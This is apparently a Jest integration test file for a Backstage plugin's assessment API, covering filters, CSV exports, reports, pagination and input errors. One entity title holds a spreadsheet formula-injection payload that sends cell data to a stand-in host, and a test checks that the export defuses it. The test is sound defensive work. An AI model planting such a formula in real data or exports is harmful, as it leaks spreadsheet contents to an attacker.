import {
  AssessmentList,
  assessmentOrders,
  AssessmentSummary,
  Report,
  Trend,
} from '@rung/backstage-plugin-rung-common/wire';
import { parse } from 'csv-parse/sync';
import { countsOf } from '../__testUtils__/countsOf';
import { entity } from '../__testUtils__/entities';
import { excessOf } from '../__testUtils__/excessOf';
import { Portal } from '../__testUtils__/Portal';
import { alsoOwnedBy } from '../__testUtils__/TestCatalog';
import { matrixOf } from '../__testUtils__/matrixOf';

const formula = '=HYPERLINK("http://evil.example?"&A1,"open me")';

const entities = [
  entity('Component', 'shop', {
    states: { availability: '99.99', 'rto.region': '15m', 'built.rung': '2' },
    metadata: { title: formula, tags: ['java', 'java-17'] },
    spec: { system: 'trade' },
  }),
  entity('Component', 'shopping-list', {
    states: {
      rto: '1h',
      'built.backups': 'none',
      'accept.no-backups': 'until 2999-12-31: nothing to lose',
    },
    metadata: { title: 'A list, "signed" by\nall', tags: ['java-17'] },
    annotations: { [alsoOwnedBy]: 'group:default/list-team' },
    spec: { lifecycle: 'Experimental', owner: 'user:ann' },
  }),
  entity('Component', 'fleet', { states: { teams: '9', pods: '40..400' } }),
  entity('Component', 'lavish', {
    states: { audience: 'team', 'built.rung': '3' },
  }),
  entity('Component', 'unread', { states: { rto: 'soon' } }),
  entity('API', 'orders', {
    states: { 'built.backups': 'none', rpo: '1h' },
    spec: { system: 'trade' },
  }),
  entity('System', 'trade', {
    states: { audience: 'paying' },
    spec: { domain: 'sales' },
  }),
  entity('Domain', 'sales', { metadata: { title: '100%_sure' } }),
];

type Matches = (row: AssessmentSummary) => boolean;

/** Filters, and which rows each of them should let through. */
const filters: [query: string, matches: Matches][] = [
  [
    'entityRef=Component:default/Shop&entityRef=api:default/orders&entityRef=api:default/absent',
    ({ name }) => name === 'shop' || name === 'orders',
  ],
  ['rung=3&rung=4', ({ rung }) => rung === 3 || rung === 4],
  ['resilience=3', ({ resilience }) => resilience === 3],
  ['built=2&built=6', ({ built }) => built === 2 || built === 6],
  ['platform=true', ({ platform }) => platform],
  ['platform=false', ({ platform }) => !platform],
  ['fit=under-built', ({ fit }) => fit === 'under-built'],
  ['status=unassessed', ({ status }) => status === 'unassessed'],
  [
    'finding=no-backups',
    ({ findings }) => findings.some(({ id }) => id === 'no-backups'),
  ],
  ['kind=COMPONENT', ({ kind }) => kind === 'Component'],
  ['kind=api&kind=domain', ({ kind }) => kind === 'API' || kind === 'Domain'],
  ['owner=user:default/Ann', ({ name }) => name === 'shopping-list'],
  ['owner=group:default/list-team', ({ name }) => name === 'shopping-list'],
  [
    'system=system:default/trade',
    ({ system }) => system === 'system:default/trade',
  ],
  [
    'domain=domain:default/SALES',
    ({ domain }) => domain === 'domain:default/sales',
  ],
  ['lifecycle=experimental', ({ lifecycle }) => lifecycle === 'Experimental'],
  ['tag=java', ({ tags }) => tags.includes('java')],
  ['text=SHOP', ({ name }) => name.startsWith('shop')],
  ['text=%25_', ({ title }) => title === '100%_sure'],
  ['text="signed"', ({ name }) => name === 'shopping-list'],
  [
    'kind=component&tag=java-17&rung=6',
    ({ kind, tags, rung }) =>
      kind === 'Component' && tags.includes('java-17') && rung === 6,
  ],
];

describe('lists, exports and reports', () => {
  let portal: Portal;
  let all: AssessmentSummary[];

  beforeAll(async () => {
    portal = await Portal.start({ entities });
    await portal.scan();
    all = (await list('')).items;
  }, 60_000);

  afterAll(() => portal.stop());

  async function list(query: string): Promise<AssessmentList> {
    const { status, body } = await portal.get(`/v1/assessments?${query}`);
    expect([query, status]).toEqual([query, 200]);
    return body;
  }

  it('hold the whole catalog, by name', () => {
    expect(all.map(({ name }) => name)).toEqual(
      entities.map(({ metadata }) => metadata.name).sort(),
    );
  });

  it.each(filters)('agree on what %s lets through', async (query, matches) => {
    const expected = all.filter(matches);
    expect(expected.length).toBeGreaterThan(0);
    expect(expected.length).toBeLessThan(all.length);

    expect(await list(`total=true&${query}`)).toEqual({
      items: expected,
      total: expected.length,
    });
    const csv = await portal.get(`/v1/assessments.csv?${query}`);
    const records: Record<string, string>[] = parse(csv.text, {
      columns: true,
    });
    expect(records.map(({ entityRef }) => entityRef)).toEqual(
      expected.map(({ entityRef }) => entityRef),
    );
    const kinds = query.startsWith('kind=') ? '' : '&kind=*';
    const { body } = await portal.get(`/v1/report?${query}${kinds}`);
    const { totals, matrix }: Report = body;
    expect(totals).toEqual(countsOf(expected));
    expect(matrix).toEqual(matrixOf(expected));
  });

  it('count an entity with each of its owners, and once in total', async () => {
    const shared = all.find(({ name }) => name === 'shopping-list');
    expect(shared?.owners).toEqual([
      'group:default/list-team',
      'user:default/ann',
    ]);
    const csv = await portal.get('/v1/assessments.csv?text=shopping-list');
    const [record]: Record<string, string>[] = parse(csv.text, {
      columns: true,
    });
    expect(record.owners).toBe('group:default/list-team; user:default/ann');

    const { body } = await portal.get('/v1/report?kind=*&groupBy=owner');
    const { groups, totals }: Report = body;
    expect(groups?.map(({ name, total }) => [name, total])).toEqual([
      ['group:default/payments', all.length - 1],
      ['group:default/list-team', 1],
      ['user:default/ann', 1],
    ]);
    expect(totals).toEqual(countsOf(all));
    const trend = await portal.get(
      '/v1/report/trend?kind=*&days=1&owner=group:default/list-team',
    );
    expect(trend.body.days).toMatchObject([{ total: 1 }]);
  });

  it.each([
    ['', ['Component']],
    ['kind=system', ['System']],
    ['kind=*', undefined],
  ])(
    'count the kinds that are asked for or configured, and tell the rest apart: %s',
    async (query, kinds) => {
      const counted = all.filter(({ kind }) => kinds?.includes(kind) ?? true);
      const others: Record<string, number> = {};
      for (const { kind } of all.filter(row => !counted.includes(row))) {
        others[kind] = (others[kind] ?? 0) + 1;
      }
      const report: Report = (await portal.get(`/v1/report?${query}`)).body;
      expect(report.totals).toEqual(countsOf(counted));
      expect(report.kinds).toEqual({
        counted: [query.split('=')[1] ?? 'Component'],
        others,
      });
      const trend: Trend = (await portal.get(`/v1/report/trend?${query}`)).body;
      expect(trend.days.at(-1)?.total).toBe(counted.length);
    },
  );

  describe.each(assessmentOrders)('ordered by %s', orderBy => {
    it.each(['asc', 'desc'])(
      'hold everything once, page by page: %s',
      async order => {
        const query = `orderBy=${orderBy}&order=${order}`;
        const { items, nextCursor } = await list(query);
        expect(nextCursor).toBeUndefined();
        expect(items).toHaveLength(all.length);
        expect(items).toEqual(expect.arrayContaining(all));

        const paged: AssessmentSummary[] = [];
        let cursor: string | undefined;
        do {
          const page = await list(
            `${query}&limit=2${cursor ? `&cursor=${cursor}` : ''}`,
          );
          paged.push(...page.items);
          cursor = page.nextCursor;
        } while (cursor);
        expect(paged).toEqual(items);
      },
    );
  });

  it('end with those that have no headroom, nearest first', async () => {
    const { items } = await list('orderBy=headroom');
    const headrooms = items.map(({ climb }) =>
      climb?.type === 'threshold' ? climb.headroom : Infinity,
    );
    expect(headrooms).toEqual([...headrooms].sort((a, b) => a - b));
    expect(headrooms).toContain(Infinity);
    expect(headrooms[0]).toBeLessThan(Infinity);
  });

  it.each([
    ['asc', [-3, 1]],
    ['desc', [1, -3]],
  ])(
    'end with those of which nothing tells the excess: %s',
    async (order, known) => {
      const { items } = await list(`orderBy=excess&order=${order}`);
      const excesses = items.map(excessOf);
      expect(excesses.slice(0, known.length)).toEqual(known);
      expect(new Set(excesses.slice(known.length))).toEqual(
        new Set([undefined]),
      );
    },
  );

  it.each([
    ['of another order', 'orderBy=rung', 'orderBy=name'],
    ['of another direction', 'orderBy=rung', 'orderBy=rung&order=desc'],
  ])('take no cursor %s', async (_, of, to) => {
    const { nextCursor } = await list(`${of}&limit=2`);
    const { status, body } = await portal.get(
      `/v1/assessments?${to}&cursor=${nextCursor}`,
    );
    expect(status).toBe(400);
    expect(body.error.name).toBe('InputError');
    expect(body.error.message).toMatch(/^The cursor is not one that/);
  });

  it.each([
    ['limit', '/v1/assessments?limit=501'],
    ['rung', '/v1/assessments.csv?rung=7'],
    ['owner', '/v1/report?owner=payments'],
    ['days', '/v1/report/trend?days=0'],
    ['color', '/v1/assessments?color=red'],
  ])('name a bad %s', async (field, path) => {
    const { status, body } = await portal.get(path);
    expect(status).toBe(400);
    expect(body.error.name).toBe('InputError');
    expect(body.error.message).toContain(field);
  });

  it('are a file that no spreadsheet takes for formulas', async () => {
    const response = await portal.get('/v1/assessments.csv?text=shop');
    expect(response.headers).toMatchObject({
      'content-type': 'text/csv; charset=utf-8',
      'content-disposition': 'attachment; filename="rung-assessments.csv"',
      'x-content-type-options': 'nosniff',
    });
    const records: Record<string, string>[] = parse(response.text, {
      columns: true,
      record_delimiter: '\r\n',
    });
    expect(records.map(({ title }) => title)).toEqual([
      `'${formula}`,
      'A list, "signed" by all',
    ]);
  });
});
